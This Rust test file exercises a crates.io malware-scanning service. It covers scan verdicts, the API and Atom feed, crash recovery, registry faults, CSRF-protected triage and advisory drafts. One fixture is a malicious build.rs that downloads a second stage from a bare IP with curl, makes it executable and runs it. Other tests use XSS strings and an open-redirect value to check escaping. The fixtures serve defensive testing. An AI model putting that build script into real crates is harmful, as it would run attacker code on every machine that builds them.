//! End-to-end tests of the service against ferret-testkit's fake crates.io on 127.0.0.1:
//! feed, sparse index and downloads in crates.io's formats, scanned by ferret-core.

use ferret_serve::{CoreEngine, Registry, Running, ScanEngine, ScanOutcome, ServeConfig, SparseRegistry, Store};
use ferret_testkit::{CrateBuilder, FakeRegistry, Fault, Publish};
use serde_json::Value;
use std::collections::HashSet;
use std::path::{Path, PathBuf};
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::{Duration, Instant};

const MALICIOUS_BUILD_RS: &str = r#"use std::process::Command;
fn main() {
    let url = "http://45.61.160.20:8080/stage2";
    Command::new("curl").args(["-sL", url, "-o", "/tmp/.cache-upd"]).status().unwrap();
    Command::new("chmod").args(["+x", "/tmp/.cache-upd"]).status().unwrap();
    Command::new("/tmp/.cache-upd").spawn().unwrap();
}
"#;

fn manifest(name: &str, version: &str, build: bool) -> String {
    format!(
        "[package]\nname = \"{name}\"\nversion = \"{version}\"\nedition = \"2021\"\n{}",
        if build { "build = \"build.rs\"\n" } else { "" }
    )
}

fn clean_crate(name: &str, version: &str) -> Vec<u8> {
    CrateBuilder::new(name, version)
        .file("Cargo.toml", manifest(name, version, false))
        .file("src/lib.rs", "/// Adds.\npub fn add(a: u32, b: u32) -> u32 { a + b }\n")
        .build()
}

fn malicious_crate(name: &str, version: &str) -> Vec<u8> {
    CrateBuilder::new(name, version)
        .file("Cargo.toml", manifest(name, version, true))
        .file("build.rs", MALICIOUS_BUILD_RS)
        .file("src/lib.rs", "pub fn add(a: u32, b: u32) -> u32 { a + b }\n")
        .build()
}

struct Harness {
    reg: FakeRegistry,
    registry: Arc<dyn Registry>,
    dir: tempfile::TempDir,
}

impl Harness {
    fn new() -> Harness {
        let reg = FakeRegistry::start();
        let dir = tempfile::tempdir().unwrap();
        let client = ferret_registry::Registry::builder(
            ferret_registry::RegistrySource::sparse(&reg.index_url()).unwrap(),
        )
        .retry(ferret_registry::RetryPolicy::none())
        .cache(ferret_registry::DownloadCache::new(dir.path().join("cache")))
        .build()
        .unwrap();
        Harness { reg, registry: Arc::new(SparseRegistry::new(client)), dir }
    }

    fn db(&self) -> PathBuf {
        self.dir.path().join("ferret.db")
    }

    fn config(&self) -> ServeConfig {
        let mut c = ServeConfig::new(Some(self.reg.feed_url()), "127.0.0.1:0".parse().unwrap());
        c.poll = Duration::from_millis(200);
        c.workers = 2;
        c.retry_base = Duration::from_millis(50);
        c
    }

    fn start(&self, rt: &tokio::runtime::Runtime, config: ServeConfig, engine: Arc<dyn ScanEngine>) -> Running {
        let store = Arc::new(Store::open(&self.db()).unwrap());
        let registry = self.registry.clone();
        rt.block_on(ferret_serve::start(config, store, registry, engine)).unwrap()
    }
}

fn runtime() -> tokio::runtime::Runtime {
    tokio::runtime::Builder::new_multi_thread().worker_threads(2).enable_all().build().unwrap()
}

fn http() -> reqwest::blocking::Client {
    reqwest::blocking::Client::builder().redirect(reqwest::redirect::Policy::none()).build().unwrap()
}

fn get_json(base: &str, path: &str) -> Value {
    let resp = http().get(format!("{base}{path}")).send().unwrap();
    assert!(resp.status().is_success() || resp.status() == 404, "{path}: {}", resp.status());
    resp.json().unwrap()
}

fn get_text(base: &str, path: &str) -> (u16, String) {
    let resp = http().get(format!("{base}{path}")).send().unwrap();
    (resp.status().as_u16(), resp.text().unwrap())
}

/// Poll `/api/versions` until `pred` holds (at most 60 s).
fn wait_for(base: &str, what: &str, pred: impl Fn(&[Value]) -> bool) -> Vec<Value> {
    let start = Instant::now();
    loop {
        let v = get_json(base, "/api/versions?include_pending=true");
        let list = v["versions"].as_array().cloned().unwrap_or_default();
        if pred(&list) {
            return list;
        }
        assert!(start.elapsed() < Duration::from_secs(60), "timed out waiting for {what}: {v:#}");
        std::thread::sleep(Duration::from_millis(100));
    }
}

fn find<'a>(list: &'a [Value], name: &str, version: &str) -> Option<&'a Value> {
    list.iter().find(|v| v["name"] == name && v["version"] == version)
}

fn all_done(list: &[Value], n: usize) -> bool {
    list.len() == n && list.iter().all(|v| v["state"] == "done" || v["state"] == "failed")
}

fn core() -> Arc<dyn ScanEngine> {
    Arc::new(CoreEngine::new(ferret_core::Scanner::default()))
}

#[test]
fn publishes_are_scanned_and_listed_in_api_and_atom_with_hostile_text_escaped() {
    let h = Harness::new();
    let rt = runtime();
    h.reg.publish("tidy-math", "1.0.0", clean_crate("tidy-math", "1.0.0"));
    h.reg.publish("build-helperz", "0.1.0", malicious_crate("build-helperz", "0.1.0"));
    h.reg.publish_with(
        Publish::new("xss-desc", "1.0.0", clean_crate("xss-desc", "1.0.0"))
            .description("<script>alert('pwned')</script><img src=x onerror=alert(1)>"),
    );
    let running = h.start(&rt, h.config(), core());
    let base = format!("http://{}", running.addr);
    let list = wait_for(&base, "three scans", |l| all_done(l, 3));

    let bad = find(&list, "build-helperz", "0.1.0").unwrap();
    assert_eq!(bad["verdict"], "malicious", "{bad}");
    assert_eq!(find(&list, "tidy-math", "1.0.0").unwrap()["verdict"], "clean");
    // Worst first.
    assert_eq!(list[0]["name"], "build-helperz");
    assert!(bad["scanned_at"].as_str().unwrap().ends_with('Z'));

    // Filters.
    let only = get_json(&base, "/api/versions?verdict=malicious");
    assert_eq!(only["versions"].as_array().unwrap().len(), 1);
    let q = get_json(&base, "/api/versions?q=TIDY");
    assert_eq!(q["versions"][0]["name"], "tidy-math");
    let (code, _) = get_text(&base, "/api/versions?verdict=evil");
    assert_eq!(code, 400);

    // One report, with evidence.
    let one = get_json(&base, "/api/versions/build-helperz/0.1.0");
    assert_eq!(one["report"]["verdict"], "malicious");
    assert!(one["report"]["findings"].as_array().unwrap().iter().any(|f| f["file"] == "build.rs"));
    assert_eq!(get_json(&base, "/api/versions/nope/1.0.0")["error"], "unknown version");

    // Atom: malicious in, clean out.
    let (code, atom) = get_text(&base, "/feed.atom");
    assert_eq!(code, 200);
    assert!(atom.contains("malicious: build-helperz 0.1.0"), "{atom}");
    assert!(!atom.contains("tidy-math"));

    // Hostile description: escaped on the queue and the report page, never raw.
    for path in ["/", "/crates/xss-desc/1.0.0"] {
        let (code, html) = get_text(&base, path);
        assert_eq!(code, 200);
        assert!(!html.contains("<script>alert"), "{path} contains raw script");
        assert!(!html.contains("<img src=x"), "{path} contains raw img");
        assert!(html.contains("&lt;script&gt;alert"), "{path} lacks escaped text");
    }
    // The report page shows the evidence with the indicator highlighted.
    let (_, page) = get_text(&base, "/crates/build-helperz/0.1.0");
    assert!(page.contains("<mark>http://45.61.160.20:8080/stage2</mark>"), "{}", serde_json::to_string_pretty(&one["report"]).unwrap());

    // A new version: scanned with a diff against the previous one.
    h.reg.publish("tidy-math", "1.1.0", malicious_crate("tidy-math", "1.1.0"));
    wait_for(&base, "the update", |l| all_done(l, 4));
    let upd = get_json(&base, "/api/versions/tidy-math/1.1.0");
    assert_eq!(upd["previous_version"], "1.0.0");
    assert_eq!(upd["verdict"], "malicious");
    assert!(!upd["diff"].as_array().unwrap().is_empty(), "{upd:#}");
    let (_, page) = get_text(&base, "/crates/tidy-math/1.1.0");
    assert!(page.contains("id=\"diff\""));

    rt.block_on(running.stop());
    drop(rt);
}

/// Blocks forever on crates whose name starts with `slow` while `gate` is set: the scan is
/// "running" when the process dies.
struct GatedEngine {
    inner: Arc<dyn ScanEngine>,
    gate: Arc<AtomicBool>,
}

impl ScanEngine for GatedEngine {
    fn scan(&self, name: &str, version: &str, crate_path: &Path, previous: Option<&Path>) -> ScanOutcome {
        while self.gate.load(Ordering::SeqCst) && name.starts_with("slow") {
            std::thread::sleep(Duration::from_millis(20));
        }
        self.inner.scan(name, version, crate_path, previous)
    }
}

#[test]
fn a_crash_mid_work_and_a_restart_lose_nothing_and_repeat_nothing() {
    let h = Harness::new();
    for i in 0..4 {
        let n = format!("quick{i}");
        h.reg.publish(&n, "1.0.0", clean_crate(&n, "1.0.0"));
    }
    h.reg.publish("slow-a", "1.0.0", clean_crate("slow-a", "1.0.0"));
    h.reg.publish("slow-b", "2.0.0", malicious_crate("slow-b", "2.0.0"));

    let gate = Arc::new(AtomicBool::new(true));
    let rt = runtime();
    let engine = Arc::new(GatedEngine { inner: core(), gate: gate.clone() });
    let running = h.start(&rt, h.config(), engine);
    let base = format!("http://{}", running.addr);
    let before = wait_for(&base, "quick scans done and slow ones running", |l| {
        l.len() == 6
            && l.iter().filter(|v| v["state"] == "done").count() == 4
            && l.iter().filter(|v| v["state"] == "running").count() == 2
    });
    let scanned_before: Vec<(String, String)> = before
        .iter()
        .filter(|v| v["state"] == "done")
        .map(|v| (v["name"].as_str().unwrap().to_string(), v["scanned_at"].as_str().unwrap().to_string()))
        .collect();

    // "kill -9": the runtime goes away without any shutdown; the gated scans never finish.
    rt.shutdown_background();
    // Published while the service is down; the feed still lists it.
    h.reg.publish("late", "0.1.0", clean_crate("late", "0.1.0"));

    let rt = runtime();
    let running = h.start(&rt, h.config(), core());
    let base = format!("http://{}", running.addr);
    let after = wait_for(&base, "everything done after restart", |l| all_done(l, 7));

    let keys: HashSet<(String, String)> =
        after.iter().map(|v| (v["name"].as_str().unwrap().into(), v["version"].as_str().unwrap().into())).collect();
    assert_eq!(keys.len(), 7, "each version listed once: {after:#?}");
    assert!(after.iter().all(|v| v["state"] == "done"), "{after:#?}");
    assert_eq!(find(&after, "slow-b", "2.0.0").unwrap()["verdict"], "malicious");
    // Nothing repeated: versions scanned before the crash keep their result.
    for (name, at) in scanned_before {
        let v = after.iter().find(|v| v["name"] == name.as_str()).unwrap();
        assert_eq!(v["scanned_at"], at.as_str(), "{name} was scanned again");
    }
    let slow = get_json(&base, "/api/versions/slow-a/1.0.0");
    assert_eq!(slow["attempts"], 2, "the interrupted job ran again: {slow:#}");
    let status = get_json(&base, "/api/status");
    assert_eq!(status["jobs"]["done"], 7);
    rt.block_on(running.stop());
    gate.store(false, Ordering::SeqCst);
}

#[test]
fn garbage_and_failures_from_the_registry_are_recorded_errors() {
    let h = Harness::new();
    h.reg.set_fault("/rss/", Fault::Garbage(b"<html><body>502 Bad Gateway</body>".to_vec()));
    let rt = runtime();
    let running = h.start(&rt, h.config(), core());
    let base = format!("http://{}", running.addr);
    let start = Instant::now();
    loop {
        let s = get_json(&base, "/api/status");
        if s["feed"]["last_error"].as_str().is_some_and(|e| e.contains("not a valid RSS")) {
            assert!(s["events"].as_array().unwrap().iter().any(|e| e["source"] == "feed" && e["level"] == "error"));
            break;
        }
        assert!(start.elapsed() < Duration::from_secs(30), "feed garbage not recorded: {s:#}");
        std::thread::sleep(Duration::from_millis(100));
    }
    // The queue page shows the error, escaped.
    let (_, html) = get_text(&base, "/");
    assert!(html.contains("last feed error"));

    // Garbage index file for one crate: recorded as a failed scan with the error.
    h.reg.publish("junk-index", "1.0.0", clean_crate("junk-index", "1.0.0"));
    h.reg.set_fault(&FakeRegistry::index_file_path("junk-index"), Fault::Garbage(b"\x00\x01not json".to_vec()));
    // Download answered with 500 twice, then fine: retried to success.
    h.reg.publish("flaky-dl", "1.0.0", clean_crate("flaky-dl", "1.0.0"));
    h.reg.set_fault_times(&FakeRegistry::download_path("flaky-dl", "1.0.0"), Fault::Status(500), 2);
    // A published file that does not match its index checksum.
    h.reg.publish_with(
        Publish::new("bad-sum", "1.0.0", clean_crate("bad-sum", "1.0.0"))
            .cksum("0000000000000000000000000000000000000000000000000000000000000000"),
    );
    h.reg.clear_fault("/rss/");
    let list = wait_for(&base, "three outcomes", |l| all_done(l, 3));
    let junk = find(&list, "junk-index", "1.0.0").unwrap();
    assert_eq!(junk["state"], "failed", "{junk}");
    assert_eq!(junk["verdict"], "suspicious");
    assert!(junk["error"].as_str().unwrap().contains("junk-index"), "{junk}");
    let bad = find(&list, "bad-sum", "1.0.0").unwrap();
    assert_eq!(bad["state"], "failed");
    assert!(bad["error"].as_str().unwrap().contains("checksum"), "{bad}");
    let flaky = get_json(&base, "/api/versions/flaky-dl/1.0.0");
    assert_eq!(flaky["state"], "done", "{flaky:#}");
    assert_eq!(flaky["attempts"], 3);
    assert_eq!(flaky["verdict"], "clean");
    rt.block_on(running.stop());
}

fn csrf_of(page: &str) -> String {
    let i = page.find("name=\"csrf\" value=\"").expect("csrf field") + "name=\"csrf\" value=\"".len();
    page[i..].split('"').next().unwrap().to_string()
}

#[test]
fn triage_needs_the_token_a_session_the_csrf_token_and_same_origin() {
    let h = Harness::new();
    h.reg.publish("build-helperz", "0.1.0", malicious_crate("build-helperz", "0.1.0"));
    let rt = runtime();
    let mut config = h.config();
    config.token = Some("s3cret-token".into());
    let running = h.start(&rt, config, core());
    let base = format!("http://{}", running.addr);
    let host = running.addr.to_string();
    wait_for(&base, "scan", |l| all_done(l, 1));
    let c = http();
    let triage_url = format!("{base}/crates/build-helperz/0.1.0/triage");
    let adv = format!("{base}/crates/build-helperz/0.1.0/advisory/rustsec.md");

    assert_eq!(c.get(&adv).send().unwrap().status(), 404, "no draft before confirmation");
    // No session.
    let r = c.post(&triage_url).form(&[("csrf", "x"), ("action", "confirm"), ("note", "n")]).send().unwrap();
    assert_eq!(r.status(), 401);
    // Wrong token.
    let r = c.post(format!("{base}/login")).form(&[("token", "wrong"), ("who", "eve")]).send().unwrap();
    assert_eq!(r.status(), 401);
    assert!(r.headers().get("set-cookie").is_none());
    // Right token from another site.
    let r = c
        .post(format!("{base}/login"))
        .header("Origin", "http://evil.example")
        .form(&[("token", "s3cret-token"), ("who", "eve")])
        .send()
        .unwrap();
    assert_eq!(r.status(), 403);
    // Right token.
    let r = c
        .post(format!("{base}/login"))
        .header("Origin", format!("http://{host}"))
        .form(&[("token", "s3cret-token"), ("who", "<b>alice</b>"), ("next", "//evil.example/")])
        .send()
        .unwrap();
    assert_eq!(r.status(), 303);
    assert_eq!(r.headers()["location"], "/", "open redirect refused");
    let set_cookie = r.headers()["set-cookie"].to_str().unwrap().to_string();
    assert!(set_cookie.contains("HttpOnly") && set_cookie.contains("SameSite=Strict"), "{set_cookie}");
    let cookie = set_cookie.split(';').next().unwrap().to_string();

    let page = c.get(format!("{base}/crates/build-helperz/0.1.0")).header("Cookie", &cookie).send().unwrap().text().unwrap();
    let csrf = csrf_of(&page);
    assert_eq!(csrf.len(), 64);
    assert!(page.contains("&lt;b&gt;alice&lt;/b&gt;"), "who is escaped");
    // Wrong CSRF token.
    let r = c
        .post(&triage_url)
        .header("Cookie", &cookie)
        .form(&[("csrf", "0".repeat(64).as_str()), ("action", "confirm"), ("note", "n")])
        .send()
        .unwrap();
    assert_eq!(r.status(), 403);
    // Right CSRF token, wrong origin.
    let r = c
        .post(&triage_url)
        .header("Cookie", &cookie)
        .header("Origin", "http://evil.example")
        .form(&[("csrf", csrf.as_str()), ("action", "confirm"), ("note", "n")])
        .send()
        .unwrap();
    assert_eq!(r.status(), 403);
    assert_eq!(c.get(&adv).send().unwrap().status(), 404);
    // Everything right.
    let r = c
        .post(&triage_url)
        .header("Cookie", &cookie)
        .header("Origin", format!("http://{host}"))
        .form(&[("csrf", csrf.as_str()), ("action", "confirm"), ("note", "Downloads and runs a second stage from a bare IP.")])
        .send()
        .unwrap();
    assert_eq!(r.status(), 303);
    let one = get_json(&base, "/api/versions/build-helperz/0.1.0");
    assert_eq!(one["triage"]["status"], "confirmed");
    assert_eq!(one["triage"]["who"], "<b>alice</b>");

    let md = c.get(&adv).send().unwrap().text().unwrap();
    assert!(md.starts_with("```toml\n[advisory]\nid = \"RUSTSEC-0000-0000\"\npackage = \"build-helperz\"\n"), "{md}");
    assert!(md.contains("categories = [\"malicious\"]\n"));
    assert!(md.contains("expect-deleted = true\n"));
    assert!(md.contains("\n[versions]\npatched = []\n```\n"));
    // The front matter is valid TOML.
    let front = md.split("```toml\n").nth(1).unwrap().split("\n```").next().unwrap();
    let parsed: toml::Table = front.parse().unwrap();
    assert_eq!(parsed["advisory"]["package"].as_str(), Some("build-helperz"));

    let osv: Value = c.get(format!("{base}/crates/build-helperz/0.1.0/advisory/osv.json")).send().unwrap().json().unwrap();
    assert_eq!(osv["affected"][0]["package"]["ecosystem"], "crates.io");
    assert_eq!(osv["affected"][0]["package"]["name"], "build-helperz");
    assert_eq!(osv["affected"][0]["versions"][0], "0.1.0");
    let ips = osv["database_specific"]["iocs"]["ips"].as_array().unwrap();
    assert!(ips.iter().any(|i| i.as_str().unwrap().starts_with("45.61.160.20")), "{osv:#}");
    assert!(osv["database_specific"]["iocs"]["urls"].as_array().unwrap().iter().any(|u| u == "http://45.61.160.20:8080/stage2"));

    // Dismiss replaces the decision and withdraws the drafts.
    let r = c
        .post(&triage_url)
        .header("Cookie", &cookie)
        .form(&[("csrf", csrf.as_str()), ("action", "dismiss"), ("note", "")])
        .send()
        .unwrap();
    assert_eq!(r.status(), 303);
    assert_eq!(c.get(&adv).send().unwrap().status(), 404);
    rt.block_on(running.stop());
}

#[test]
fn triage_is_disabled_without_a_token() {
    let h = Harness::new();
    h.reg.publish("tidy-math", "1.0.0", clean_crate("tidy-math", "1.0.0"));
    let rt = runtime();
    let running = h.start(&rt, h.config(), core());
    let base = format!("http://{}", running.addr);
    wait_for(&base, "scan", |l| all_done(l, 1));
    let r = http().post(format!("{base}/login")).form(&[("token", ""), ("who", "x")]).send().unwrap();
    assert_eq!(r.status(), 401);
    let r = http().post(format!("{base}/crates/tidy-math/1.0.0/triage")).form(&[("csrf", ""), ("action", "confirm")]).send().unwrap();
    assert_eq!(r.status(), 403);
    rt.block_on(running.stop());
}

#[test]
fn a_gap_in_the_feed_is_detected() {
    let h = Harness::new();
    let store = Store::open(&h.db()).unwrap();
    h.reg.set_feed_window(Some(2));
    h.reg.publish("a1", "1.0.0", clean_crate("a1", "1.0.0"));
    h.reg.publish("a2", "1.0.0", clean_crate("a2", "1.0.0"));
    let r = ferret_serve::poller::process_body(&store, h.reg.feed_xml().as_bytes()).unwrap();
    assert_eq!((r.listed, r.enqueued, r.gap), (2, 2, false));
    h.reg.publish("a3", "1.0.0", clean_crate("a3", "1.0.0"));
    let r = ferret_serve::poller::process_body(&store, h.reg.feed_xml().as_bytes()).unwrap();
    assert_eq!((r.listed, r.enqueued, r.gap), (2, 1, false));
    for n in ["a4", "a5", "a6"] {
        h.reg.publish(n, "1.0.0", clean_crate(n, "1.0.0"));
    }
    let r = ferret_serve::poller::process_body(&store, h.reg.feed_xml().as_bytes()).unwrap();
    assert_eq!((r.listed, r.enqueued, r.gap), (2, 2, true));
    assert_eq!(store.meta(ferret_serve::poller::keys::GAPS).unwrap().as_deref(), Some("1"));
    assert!(store.events(10).unwrap().iter().any(|e| e.level == "warn" && e.message.contains("gap")));
    // The same feed again: nothing new, no gap.
    let r = ferret_serve::poller::process_body(&store, h.reg.feed_xml().as_bytes()).unwrap();
    assert_eq!((r.enqueued, r.gap), (0, false));
}

#[test]
fn watched_lockfile_crates_get_their_new_versions_scanned_with_a_diff() {
    let h = Harness::new();
    h.reg.publish_with(Publish::new("dep-a", "1.0.0", clean_crate("dep-a", "1.0.0")).hidden_from_feed());
    h.reg.publish_with(Publish::new("dep-a", "1.0.1", malicious_crate("dep-a", "1.0.1")).hidden_from_feed());
    h.reg.publish_with(Publish::new("dep-b", "0.3.0", clean_crate("dep-b", "0.3.0")).hidden_from_feed());
    let lock = h.dir.path().join("Cargo.lock");
    std::fs::write(
        &lock,
        "version = 3\n\n[[package]]\nname = \"app\"\nversion = \"0.1.0\"\ndependencies = [\"dep-a\", \"dep-b\"]\n\n\
         [[package]]\nname = \"dep-a\"\nversion = \"1.0.0\"\nsource = \"registry+https://github.com/rust-lang/crates.io-index\"\n\n\
         [[package]]\nname = \"dep-b\"\nversion = \"0.3.0\"\nsource = \"registry+https://github.com/rust-lang/crates.io-index\"\n",
    )
    .unwrap();
    let rt = runtime();
    let mut config = h.config();
    config.feed_url = None;
    config.watch_lockfiles = vec![lock.clone()];
    let running = h.start(&rt, config, core());
    let base = format!("http://{}", running.addr);
    let list = wait_for(&base, "the new dep-a", |l| all_done(l, 1));
    assert_eq!(list[0]["name"], "dep-a");
    assert_eq!(list[0]["version"], "1.0.1");
    let one = get_json(&base, "/api/versions/dep-a/1.0.1");
    assert_eq!(one["source"], "lockfile");
    assert_eq!(one["previous_version"], "1.0.0");
    assert_eq!(one["verdict"], "malicious");
    assert!(!one["diff"].as_array().unwrap().is_empty());
    // A later release is picked up by the next poll.
    h.reg.publish_with(Publish::new("dep-b", "0.3.1", clean_crate("dep-b", "0.3.1")).hidden_from_feed());
    wait_for(&base, "dep-b 0.3.1", |l| all_done(l, 2));
    rt.block_on(running.stop());

    // A broken lockfile is refused at start with its path named.
    std::fs::write(&lock, "this is [not a lockfile").unwrap();
    let mut config = h.config();
    config.watch_lockfiles = vec![lock.clone()];
    let store = Arc::new(Store::open(&h.db()).unwrap());
    let err = rt.block_on(ferret_serve::start(config, store, h.registry.clone(), core())).err().unwrap();
    assert!(err.to_string().contains("Cargo.lock"), "{err}");
}
